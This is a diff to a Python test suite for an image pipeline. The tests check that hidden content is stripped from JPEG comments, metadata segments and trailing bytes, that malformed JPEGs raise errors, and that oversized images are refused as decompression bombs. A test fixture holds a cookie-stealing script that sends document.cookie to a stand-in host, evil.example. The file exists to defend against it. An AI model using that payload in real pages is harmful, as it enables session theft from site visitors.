@@ -17,7 +17,16 @@ import numpy as np
 import pytest
 from PIL import Image, ImageOps
 
-from magiclens.pipeline.images import REJECT_REASONS, ImageRejected, normalize_image
+from magiclens.pipeline.images import (
+    DEFAULT_IMAGE,
+    DEFAULT_MAX_PIXELS,
+    REJECT_REASONS,
+    ImageConfig,
+    ImageRejected,
+    normalize_image,
+    normalize_with,
+)
+from magiclens.pipeline.images.jpeg import JpegStructureError, strip_jpeg_metadata
 from magiclens.pipeline.records import NormalizedImage
 
 
@@ -189,6 +198,115 @@ def test_small_jpegs_are_re_encoded_when_storing_them_as_is_would_not_do(images:
     turned = pixels(normalize_image(cases["orientation in XMP"]))
     upright = np.asarray(picture.transpose(Image.Transpose.ROTATE_270)).astype(np.int16)
     assert np.abs(turned - upright).mean() < 8
+
+
+def jpeg_segment(marker: int, body: bytes) -> bytes:
+    return bytes([0xFF, marker]) + (len(body) + 2).to_bytes(2, "big") + body
+
+
+HOSTILE_HTML = b'<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>'
+
+
+def test_comments_metadata_and_trailing_bytes_of_a_jpeg_kept_as_is_are_not_stored(images: Path) -> None:
+    """A small baseline JPEG keeps its coded pixels, but nothing a page hid around them."""
+    clean = (images / "neardup/pdq-labelme-distractors/q0746.jpg").read_bytes()  # SOI, APP0 JFIF, tables, ...
+    jfif_end = 2 + 2 + int.from_bytes(clean[4:6], "big")
+    hostile = (
+        clean[:jfif_end]
+        + jpeg_segment(0xFE, HOSTILE_HTML)  # COM
+        + jpeg_segment(0xED, HOSTILE_HTML)  # APP13 without Photoshop's identifier: Pillow ignores it
+        + jpeg_segment(0xE2, b"ICC_PROFILE\x00\x01\x01" + HOSTILE_HTML)  # APP2
+        + jpeg_segment(0xEB, HOSTILE_HTML)  # APP11, a vendor block
+        + b"\xff\xff"  # fill bytes before the next marker
+        + clean[jfif_end:]
+        + HOSTILE_HTML  # after the end-of-image marker
+    )
+    normalized = normalize_image(hostile)
+    assert normalized.jpeg == clean  # the coded pixels as they came, nothing else
+    assert b"script" not in normalized.jpeg and b"evil" not in normalized.jpeg
+    assert normalized.sha256 == hashlib.sha256(hostile).hexdigest()  # the identity of what was fetched
+    with Image.open(io.BytesIO(clean)) as original:
+        assert np.array_equal(pixels(normalized), np.asarray(original).astype(np.int16))
+
+
+def test_a_re_encoded_jpeg_does_not_carry_the_comment_of_its_source(images: Path) -> None:
+    with Image.open(images / "photos/skimage/coffee.png") as coffee:
+        picture = coffee.convert("RGB")
+    cases = {
+        "large": jpeg_bytes(picture, quality=90, comment=HOSTILE_HTML),
+        "progressive": jpeg_bytes(picture.resize((300, 200)), quality=90, progressive=True, comment=HOSTILE_HTML),
+        "photoshop block": jpeg_bytes(picture.resize((300, 200)), quality=90, comment=HOSTILE_HTML)[:2]
+        + jpeg_segment(0xED, b"Photoshop 3.0\x00" + HOSTILE_HTML)
+        + jpeg_bytes(picture.resize((300, 200)), quality=90, comment=HOSTILE_HTML)[2:],
+    }
+    for case, data in cases.items():
+        assert HOSTILE_HTML in data
+        normalized = normalize_image(data)
+        assert normalized.jpeg != data, case
+        assert b"script" not in normalized.jpeg and b"\xff\xfe" not in normalized.jpeg, case
+        pixels(normalized)
+
+
+def test_comments_between_the_scans_of_a_jpeg_are_dropped(images: Path) -> None:
+    with Image.open(images / "photos/skimage/coffee.png") as coffee:
+        progressive = jpeg_bytes(coffee.convert("RGB"), quality=90, progressive=True)
+    second_scan = progressive.index(b"\xff\xda", progressive.index(b"\xff\xda") + 2)
+    hostile = progressive[:second_scan] + jpeg_segment(0xFE, HOSTILE_HTML) + progressive[second_scan:]
+    stripped = strip_jpeg_metadata(hostile)
+    assert b"script" not in stripped
+    with Image.open(io.BytesIO(stripped)) as cleaned, Image.open(io.BytesIO(progressive)) as reference:
+        assert np.array_equal(np.asarray(cleaned), np.asarray(reference))
+
+
+def test_stripping_keeps_every_real_jpeg_decoding_to_the_same_pixels(images: Path) -> None:
+    """CMYK with Adobe transforms, ICC profiles, EXIF, XMP, progressive, MPO: identical pixels."""
+    checked = 0
+    for path in sorted(p for p in images.rglob("*") if p.is_file()):
+        data = path.read_bytes()
+        if not data.startswith(b"\xff\xd8"):
+            continue
+        try:
+            stripped = strip_jpeg_metadata(data)
+        except JpegStructureError:
+            assert path.name in ("pillow_truncated_jpeg.jpg", "pillow_ultrahdr.jpg"), path  # cut short
+            continue
+        assert len(stripped) <= len(data)
+        with Image.open(io.BytesIO(data)) as original, Image.open(io.BytesIO(stripped)) as cleaned:
+            assert "comment" not in cleaned.info and "icc_profile" not in cleaned.info, path
+            assert not any(key in cleaned.info for key in ("exif", "xmp", "photoshop")), path
+            assert np.array_equal(np.asarray(original), np.asarray(cleaned)), path
+        checked += 1
+    assert checked >= 50
+
+
+@pytest.mark.parametrize(
+    "broken",
+    [
+        b"",
+        b"\x89PNG\r\n\x1a\n",
+        b"\xff\xd8",  # nothing after the start
+        b"\xff\xd8\xff\xfe\x00\x40short",  # a comment longer than the file
+        b"\xff\xd8\xff\xfe\x00\x01",  # a length under 2
+        b"\xff\xd8garbage",  # no marker where one must be
+        b"\xff\xd8\xff\xda\x00\x02\x12\x34",  # scan data without an end
+        b"\xff\xd8\xff\xd0\xff\xd9",  # a restart marker outside a scan
+    ],
+)
+def test_malformed_jpeg_structure_is_an_error_of_its_own(broken: bytes) -> None:
+    with pytest.raises(JpegStructureError):
+        strip_jpeg_metadata(broken)
+
+
+def test_a_jpeg_whose_segments_cannot_be_walked_is_re_encoded_or_rejected(images: Path) -> None:
+    clean = (images / "neardup/pdq-labelme-distractors/q0746.jpg").read_bytes()
+    without_end = clean[:-2]  # the decoder accepts a missing end-of-image marker; the walker does not
+    try:
+        normalized = normalize_image(without_end)
+    except ImageRejected as rejected:
+        assert rejected.reason in REJECT_REASONS
+    else:
+        assert normalized.jpeg != without_end
+        pixels(normalized)
 
 
 def test_the_hash_does_not_depend_on_whether_the_jpeg_was_stored_as_is(images: Path) -> None:
@@ -425,6 +543,25 @@ def test_compressible_bomb_is_refused_by_the_per_call_limit() -> None:
     assert len(white) < 100_000
     assert rejection(white, max_pixels=10_000_000).reason == "decompression_bomb"
     assert normalize_image(white).width == 512  # under the default limit it is an image
+
+
+@pytest.mark.parametrize("width, height", [(9000, 9000), (11_000, 8000)])
+def test_images_under_pillows_limit_but_over_ours_are_refused_from_the_header(width: int, height: int) -> None:
+    # 81 M and 88 M pixels: Pillow (89.5 M) would decode them in full (240 MB and more) before
+    # they were shrunk; a header with no pixel data behind it shows that nothing was decoded
+    # (decoding would have found it truncated)
+    rejected = rejection(png_header_claiming(width, height))
+    assert rejected.reason == "decompression_bomb"
+    assert f"{width}x{height}" in rejected.detail and str(DEFAULT_MAX_PIXELS) in rejected.detail
+    assert DEFAULT_MAX_PIXELS == DEFAULT_IMAGE.max_pixels == 40_000_000
+
+
+def test_the_pixel_limit_is_configurable() -> None:
+    white = png_bytes(Image.new("L", (4000, 3000), 255))
+    assert normalize_with(white, ImageConfig(max_pixels=12_000_000)).width == 512
+    with pytest.raises(ImageRejected) as caught:
+        normalize_with(white, ImageConfig(max_pixels=11_999_999))
+    assert caught.value.reason == "decompression_bomb"
 
 
 def test_pillow_bomb_warning_reaches_the_caller() -> None:
